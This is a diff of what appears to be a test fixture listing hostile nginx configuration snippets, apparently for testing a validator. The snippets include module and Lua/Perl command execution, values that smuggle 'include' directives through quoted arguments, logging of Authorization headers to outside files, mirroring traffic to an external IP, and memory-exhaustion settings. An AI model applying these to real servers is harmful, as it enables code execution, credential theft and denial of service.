@@ -13,10 +13,49 @@ def whole(*, main: str = "", http: str = "", server: str = "", location: str = "
     return f"{main}\nevents {{ }}\nhttp {{ {http}\n{SERVER % (server + ' ' + serving)}\n}}\n"
 
 
+# One statement or a few at the top level of the file.
+_MAIN = {
+    "load-module": "load_module OUTSIDE/CANARY.so;",
+    "load-module-quoted": 'load_module "OUTSIDE/CANARY.so" ;',
+    "log-syslog": "error_log syslog:server=198.51.100.7:514,tag=CANARY;",
+    "pid-daemon-lock": "pid OUTSIDE/CANARY.pid; daemon on; master_process on; lock_file OUTSIDE/CANARY.lock;",
+    "user-root": "user root CANARY; worker_processes 4096; worker_priority -20; worker_rlimit_nofile 9999999;",
+    "env": "env LD_PRELOAD=OUTSIDE/CANARY.so; env CANARY; working_directory OUTSIDE;",
+    "ssl-engine": "ssl_engine CANARY;",
+    "mail-and-stream": (
+        "mail { auth_http 198.51.100.7/CANARY; server { listen 25; protocol smtp; } }\n"
+        "stream { server { listen 0.0.0.0:53 udp; proxy_pass 198.51.100.7:53; } }"
+    ),
+    "debug": "debug_points abort; timer_resolution 1ms; worker_rlimit_core 9g; thread_pool CANARY threads=9999;",
+}
+# The same in the location that serves.
+_LOCATION = {
+    "lua-block": "content_by_lua_block { os.execute('touch OUTSIDE/CANARY') }",
+    "dav": "dav_methods PUT DELETE; create_full_put_path on; dav_access all:rw; root OUTSIDE;",
+    "store": "proxy_store OUTSIDE/CANARY.bin; proxy_store_access all:rw;",
+    "password-file": 'auth_basic "CANARY"; auth_basic_user_file OUTSIDE/CANARY;',
+    "break-out-time": 'proxy_read_timeout "60s; include OUTSIDE/CANARY; #";',
+    "break-out-size": 'proxy_buffer_size "4k;}}load_module CANARY";',
+    "break-out-flag": 'gzip "on; include OUTSIDE/CANARY";',
+    "break-out-connection": 'proxy_set_header Connection "close\\";\n include OUTSIDE/CANARY; #";',
+    "break-out-header-name": 'add_header "X-Accel-Buffering no; include OUTSIDE/CANARY; #" no;',
+    "break-out-header": 'add_header X-Accel-Buffering "no;\n include OUTSIDE/CANARY;";',
+    "break-out-types": "gzip on; gzip_types 'text/event-stream;include OUTSIDE/CANARY' text/CANARY;",
+    "break-out-sub-filter": "sub_filter '\";} include OUTSIDE/CANARY; {' '$http_CANARY'; sub_filter_types *;",
+    "break-out-method": 'proxy_method "GET; include OUTSIDE/CANARY";',
+    "break-out-charset": 'charset "utf-8; include OUTSIDE/CANARY";',
+    "place-of-a-port": 'proxy_method "@ENGINE@"; proxy_set_header Connection "@HOST@";',
+    "memory": (
+        "proxy_buffers 1000000 1m; proxy_buffer_size 60g; client_body_buffer_size 60g; "
+        "output_buffers 9999999 1m; gzip_buffers 999999 1m; proxy_busy_buffers_size 60g;"
+    ),
+    "time": "proxy_read_timeout 99999d; proxy_connect_timeout 99999999999999999999999s;",
+    "ssi": "ssi on; ssi_types *; set $CANARY OUTSIDE;",
+    "set-body": "proxy_set_body $request_body_file;",
+}
 HOSTILE: dict[str, str] = {
-    "load-module": whole(main="load_module OUTSIDE/CANARY.so;"),
-    "load-module-quoted": whole(main='load_module "OUTSIDE/CANARY.so" ;'),
-    "lua-block": whole(location="content_by_lua_block { os.execute('touch OUTSIDE/CANARY') }"),
+    **{name: whole(main=statements) for name, statements in _MAIN.items()},
+    **{name: whole(location=statements) for name, statements in _LOCATION.items()},
     "lua-file": whole(http="init_by_lua_file OUTSIDE/CANARY.lua;", location="access_by_lua_file OUTSIDE/CANARY.lua;"),
     "perl": whole(http="perl_modules OUTSIDE/CANARY; perl_require CANARY.pm;", location="perl CANARY::handler;"),
     "perl-set": whole(http="perl_set $CANARY 'sub { system(\"touch OUTSIDE/CANARY\") }';"),
@@ -28,25 +67,14 @@ HOSTILE: dict[str, str] = {
         http="log_format CANARY '$http_authorization'; access_log OUTSIDE/CANARY-access.log CANARY;",
         location="error_log /etc/CANARY debug; access_log /etc/CANARY; rewrite_log on;",
     ),
-    "log-syslog": whole(main="error_log syslog:server=198.51.100.7:514,tag=CANARY;"),
-    "pid-daemon-lock": whole(
-        main="pid OUTSIDE/CANARY.pid; daemon on; master_process on; lock_file OUTSIDE/CANARY.lock;"
-    ),
-    "user-root": whole(
-        main="user root CANARY; worker_processes 4096; worker_priority -20; worker_rlimit_nofile 9999999;"
-    ),
-    "env": whole(main="env LD_PRELOAD=OUTSIDE/CANARY.so; env CANARY; working_directory OUTSIDE;"),
-    "ssl-engine": whole(main="ssl_engine CANARY;"),
     "root-alias": whole(
         server="root OUTSIDE/CANARY; location /CANARY/ { alias OUTSIDE/; autoindex on; }",
         location="root /etc; index passwd;",
     ),
-    "dav": whole(location="dav_methods PUT DELETE; create_full_put_path on; dav_access all:rw; root OUTSIDE;"),
     "temp-paths": whole(
         http="client_body_temp_path OUTSIDE/CANARY; proxy_temp_path /etc/CANARY; client_body_in_file_only on;",
         location="fastcgi_temp_path OUTSIDE/CANARY; uwsgi_temp_path OUTSIDE/CANARY; scgi_temp_path OUTSIDE/CANARY;",
     ),
-    "store": whole(location="proxy_store OUTSIDE/CANARY.bin; proxy_store_access all:rw;"),
     "cache": whole(
         http="proxy_cache_path OUTSIDE/CANARY keys_zone=c:1m use_temp_path=off;",
         location="proxy_cache c; proxy_cache_key $http_CANARY;",
@@ -72,26 +100,6 @@ HOSTILE: dict[str, str] = {
         location="proxy_ssl_certificate OUTSIDE/CANARY.pem; proxy_ssl_trusted_certificate OUTSIDE/CANARY.pem; "
         "proxy_ssl_crl OUTSIDE/CANARY.pem; proxy_ssl_conf_command CANARY x;",
     ),
-    "password-file": whole(location='auth_basic "CANARY"; auth_basic_user_file OUTSIDE/CANARY;'),
-    "mail-and-stream": whole(
-        main="mail { auth_http 198.51.100.7/CANARY; server { listen 25; protocol smtp; } }\n"
-        "stream { server { listen 0.0.0.0:53 udp; proxy_pass 198.51.100.7:53; } }"
-    ),
-    "debug": whole(
-        main="debug_points abort; timer_resolution 1ms; worker_rlimit_core 9g; thread_pool CANARY threads=9999;"
-    ),
-    "break-out-time": whole(location='proxy_read_timeout "60s; include OUTSIDE/CANARY; #";'),
-    "break-out-size": whole(location='proxy_buffer_size "4k;}}load_module CANARY";'),
-    "break-out-flag": whole(location='gzip "on; include OUTSIDE/CANARY";'),
-    "break-out-connection": whole(location='proxy_set_header Connection "close\\";\n include OUTSIDE/CANARY; #";'),
-    "break-out-header-name": whole(location='add_header "X-Accel-Buffering no; include OUTSIDE/CANARY; #" no;'),
-    "break-out-header": whole(location='add_header X-Accel-Buffering "no;\n include OUTSIDE/CANARY;";'),
-    "break-out-types": whole(location="gzip on; gzip_types 'text/event-stream;include OUTSIDE/CANARY' text/CANARY;"),
-    "break-out-sub-filter": whole(
-        location="sub_filter '\";} include OUTSIDE/CANARY; {' '$http_CANARY'; sub_filter_types *;"
-    ),
-    "break-out-method": whole(location='proxy_method "GET; include OUTSIDE/CANARY";'),
-    "break-out-charset": whole(location='charset "utf-8; include OUTSIDE/CANARY";'),
     "break-out-keepalive": whole(
         http='upstream "p;CANARY" { server 127.0.0.1:9; keepalive "8; include OUTSIDE/CANARY"; }',
         target='location / { proxy_pass "http://p;CANARY"; }',
@@ -104,16 +112,8 @@ HOSTILE: dict[str, str] = {
         server='server_name "a;include OUTSIDE/CANARY;" CANARY;',
         target='location "/;include OUTSIDE/CANARY" { } location / { proxy_pass http://127.0.0.1:9; }',
     ),
-    "place-of-a-port": whole(location='proxy_method "@ENGINE@"; proxy_set_header Connection "@HOST@";'),
-    "memory": whole(
-        location="proxy_buffers 1000000 1m; proxy_buffer_size 60g; client_body_buffer_size 60g; "
-        "output_buffers 9999999 1m; gzip_buffers 999999 1m; proxy_busy_buffers_size 60g;"
-    ),
-    "time": whole(location="proxy_read_timeout 99999d; proxy_connect_timeout 99999999999999999999999s;"),
-    "ssi": whole(location="ssi on; ssi_types *; set $CANARY OUTSIDE;"),
     "mirror": whole(server="location /m { internal; proxy_pass http://198.51.100.7/CANARY; }", location="mirror /m;"),
     "auth-request": whole(server="location /a { proxy_pass http://CANARY.example; }", location="auth_request /a;"),
     "image-geo": whole(http="geoip_country OUTSIDE/CANARY.dat;", location="image_filter resize 9999 9999;"),
     "plugin": whole(main="google_perftools_profiles OUTSIDE/CANARY;", location="CANARY_module_run OUTSIDE/CANARY;"),
-    "set-body": whole(location="proxy_set_body $request_body_file;"),
 }
